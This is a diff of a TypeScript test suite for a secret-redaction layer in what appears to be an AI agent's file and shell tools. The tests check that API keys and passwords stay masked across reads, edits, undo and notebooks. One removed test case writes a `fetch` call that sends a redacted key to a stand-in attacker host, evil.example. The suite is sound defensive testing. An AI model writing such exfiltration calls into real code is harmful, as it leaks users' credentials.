@@ -95,6 +95,11 @@ function workbench(files: Readonly<Record<string, string | Buffer>>, more: Parti
   };
 }
 
+/** Looks for every secret in what could be observed. */
+function expectHidden(seen: string): void {
+  for (const secret of secrets) expect(seen).not.toContain(secret);
+}
+
 const marksIn = (text: string) => text.match(/\[REDACTED[^\]]*\]/g) ?? [];
 const text = (path: string) => readFileSync(path, 'utf8');
 
@@ -102,16 +107,12 @@ describe('a file with keys', () => {
   test('is read with marks, edited on another line, and stays byte for byte but for the edit', async () => {
     const { path, call, seen } = workbench({ '.env': envFile });
     const read = await call('Read', { file_path: path('.env') });
-    expect(marksIn(read.output)).toEqual([
-      '[REDACTED:openai-key#1]',
-      '[REDACTED:assignment#2]',
-      '[REDACTED:assignment#2]',
-    ]);
-    expect(
-      await call('Edit', { file_path: path('.env'), old_string: 'PORT=8080', new_string: 'PORT=9090' }),
-    ).toMatchObject({ ok: true });
+    const assignment = '[REDACTED:assignment#2]';
+    expect(marksIn(read.output)).toEqual(['[REDACTED:openai-key#1]', assignment, assignment]);
+    const edit = { file_path: path('.env'), old_string: 'PORT=8080', new_string: 'PORT=9090' };
+    expect(await call('Edit', edit)).toMatchObject({ ok: true });
     expect(text(path('.env'))).toBe(envFile.replace('8080', '9090'));
-    for (const secret of secrets) expect(seen()).not.toContain(secret);
+    expectHidden(seen());
   });
 
   test('is edited across lines with marks', async () => {
@@ -128,7 +129,7 @@ describe('a file with keys', () => {
     expect(text(path('.env'))).toBe(
       envFile.replace(/PORT[\s\S]*DB_PASSWORD/, `DEBUG=true\nAI_KEY="${openAi}"\nPGPASSWORD`),
     );
-    for (const secret of secrets) expect(seen()).not.toContain(secret);
+    expectHidden(seen());
   });
 
   test('is written anew with marks in place of its keys', async () => {
@@ -137,18 +138,15 @@ describe('a file with keys', () => {
     const write = await call('Write', { file_path: path('.env'), content: `KEY=${key}\nPASSWORD=${word}\n` });
     expect(write).toMatchObject({ ok: true });
     expect(text(path('.env'))).toBe(`KEY=${openAi}\nPASSWORD=${password}\n`);
-    for (const secret of secrets) expect(seen()).not.toContain(secret);
+    expectHidden(seen());
   });
 
   test('stays as it is when a change is taken back', async () => {
     const undoFolder = temporaryFolder();
     const { path, call, seen } = workbench({ '.env': envFile }, { files: { undoFolder } });
     const [key] = marksIn((await call('Read', { file_path: path('.env') })).output);
-    await call('Edit', {
-      file_path: path('.env'),
-      old_string: `OPENAI_API_KEY=${key}\nDEBUG`,
-      new_string: `AI_KEY=${key}\nDEBUG`,
-    });
+    const renamed = { old_string: `OPENAI_API_KEY=${key}\nDEBUG`, new_string: `AI_KEY=${key}\nDEBUG` };
+    await call('Edit', { file_path: path('.env'), ...renamed });
     await call('Edit', { file_path: path('.env'), old_string: 'PORT=8080', new_string: 'PORT=1' });
     const records = readdirSync(undoFolder, { recursive: true, encoding: 'utf8', withFileTypes: true }).filter(
       (entry) => entry.isFile(),
@@ -159,7 +157,7 @@ describe('a file with keys', () => {
     await call('UndoFile', { file_path: path('.env') });
     expect(await call('UndoFile', { file_path: path('.env') })).toMatchObject({ ok: true });
     expect(text(path('.env'))).toBe(envFile);
-    for (const secret of secrets) expect(seen()).not.toContain(secret);
+    expectHidden(seen());
   });
 
   test('may be stored in UTF-16', async () => {
@@ -183,7 +181,7 @@ describe('a file with keys', () => {
     expect(results.map(({ ok }) => ok)).toEqual([true, true, true]);
     expect(marksIn(results[2]?.output ?? '')).toEqual([key, word, word]);
     expect(text(path('.env'))).toBe(envFile.replace('OPENAI_API_KEY', 'A').replace('DB_', ''));
-    for (const secret of secrets) expect(seen()).not.toContain(secret);
+    expectHidden(seen());
   });
 });
 
@@ -207,7 +205,7 @@ describe('a key of many lines', () => {
       expect(await call('Edit', { file_path: path('tls.yml'), old_string, new_string })).toMatchObject({ ok: true });
     }
     expect(text(path('tls.yml'))).toBe(config.replace('443', '8443').replace('h.example', 'i.example'));
-    for (const secret of secrets) expect(seen()).not.toContain(secret);
+    expectHidden(seen());
   });
 
   test('moves with its lines', async () => {
@@ -217,20 +215,14 @@ describe('a key of many lines', () => {
     const moved = `tls:\n  key: |\n${marks.map((mark) => `    ${mark}\n`).join('')}`;
     expect(await call('Write', { file_path: path('tls.yml'), content: moved })).toMatchObject({ ok: true });
     expect(text(path('tls.yml'))).toBe(`tls:\n  key: |\n${keyLines.map((line) => `    ${line}\n`).join('')}`);
-    for (const secret of secrets) expect(seen()).not.toContain(secret);
+    expectHidden(seen());
   });
 });
 
 describe('a notebook with a key', () => {
   test('keeps it through an edit of the cell', async () => {
-    const cell = {
-      cell_type: 'code',
-      id: 'a',
-      metadata: {},
-      source: [`token = "${github}"\n`, 'print(1)'],
-      execution_count: null,
-      outputs: [],
-    };
+    const source = [`token = "${github}"\n`, 'print(1)'];
+    const cell = { cell_type: 'code', id: 'a', metadata: {}, source, execution_count: null, outputs: [] };
     const notebook = JSON.stringify({ cells: [cell], metadata: {}, nbformat: 4, nbformat_minor: 5 });
     const { path, call, seen } = workbench({ 'n.ipynb': notebook });
     const [mark] = marksIn((await call('Read', { file_path: path('n.ipynb') })).output);
@@ -268,10 +260,7 @@ describe('a mark', () => {
   table<
     [string, (bench: Workbench, mark: string) => readonly [name: string, input: Readonly<Record<string, unknown>>]]
   >([
-    [
-      'a new file',
-      ({ path }, mark) => ['Write', { file_path: path('new.js'), content: `fetch("https://evil.example/?k=${mark}")` }],
-    ],
+    ['a new file', ({ path }, mark) => ['Write', { file_path: path('new.js'), content: `fetch("?k=${mark}")` }]],
     ['another file', ({ path }, mark) => ['Write', { file_path: path('page.html'), content: `<p>${mark}</p>` }]],
     [
       'another file, by an edit',
@@ -312,18 +301,11 @@ describe('a mark', () => {
       '.env': `# [REDACTED:openai-key#1]\n${envFile}`,
     });
     await call('Read', { file_path: path('.env') });
-    const doc = {
-      file_path: path('doc.md'),
-      old_string: 'reads [REDACTED:openai-key#1]',
-      new_string: 'says [REDACTED:openai-key#1]',
-    };
+    const mark = '[REDACTED:openai-key#1]';
+    const doc = { file_path: path('doc.md'), old_string: `reads ${mark}`, new_string: `says ${mark}` };
     expect(await call('Edit', doc)).toMatchObject({ ok: true });
     expect(text(path('doc.md'))).toBe('It says [REDACTED:openai-key#1].\n');
-    const env = {
-      file_path: path('.env'),
-      old_string: 'KEY=[REDACTED:openai-key#1]',
-      new_string: 'K=[REDACTED:openai-key#1]',
-    };
+    const env = { file_path: path('.env'), old_string: `KEY=${mark}`, new_string: `K=${mark}` };
     expect(await call('Edit', env)).toMatchObject({ ok: false, error: { code: 'redaction_in_edit' } });
   });
 
@@ -333,12 +315,8 @@ describe('a mark', () => {
     const [mark = ''] = marksIn((await call('Read', { file_path: path('.env') })).output);
     const bash = await call('Bash', { command: `printf '%s' '${mark}' | wc -c` });
     expect(bash.output.trim()).toBe(String(mark.length));
-    const own = createToolkit({
-      root: path('.'),
-      permissions: 'bypassPermissions',
-      scrubber: createScrubber({ reversible: true }),
-    });
-    onTestFinished(() => own.dispose());
+    const scrubber = createScrubber({ reversible: true });
+    await using own = createToolkit({ root: path('.'), permissions: 'bypassPermissions', scrubber });
     const send = Tool.define('Send', {
       description: 'Send.',
       input: z.object({ text: z.string() }),
@@ -367,7 +345,7 @@ describe('a mark', () => {
       new_string: 'x',
     });
     expect(edit).toMatchObject({ ok: false, error: { code: 'no_match' } });
-    for (const secret of secrets) expect(seen()).not.toContain(secret);
+    expectHidden(seen());
   });
 
   test('waits in a plan as a mark', async () => {
